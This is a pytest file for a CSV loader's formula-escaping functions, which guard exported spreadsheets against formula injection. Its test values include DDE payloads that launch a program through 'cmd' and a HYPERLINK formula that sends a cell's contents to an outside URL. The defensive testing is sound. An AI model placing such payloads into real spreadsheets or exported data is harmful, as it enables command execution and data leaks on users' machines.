"""Escape spreadsheet formulas in exported CSV."""

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from specter_graph.loaders.parsing.delimited import escape_formula, unescape_formula


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://x.org?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-1\n=2",
        "'=1",
    ],
)
def test_a_formula_is_escaped_and_restored(value: str):
    assert escape_formula(value) == f"'{value}"
    assert unescape_formula(escape_formula(value)) == value


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-05", "~Ann_Smith1", "-5VpIqr", "", "O'Neil"])
def test_numbers_and_ids_are_unchanged(value: str):
    assert escape_formula(value) == value
    assert unescape_formula(value) == value


def test_a_long_number_with_a_letter_takes_linear_time():
    started = process_time()
    assert escape_formula(f"+{'1' * 1_000_000}x").startswith("'+")
    assert process_time() - started < 2


@given(st.text("=+-@'\t\ra1. \n", max_size=6))
def test_every_value_is_restored(value: str):
    assert unescape_formula(escape_formula(value)) == value
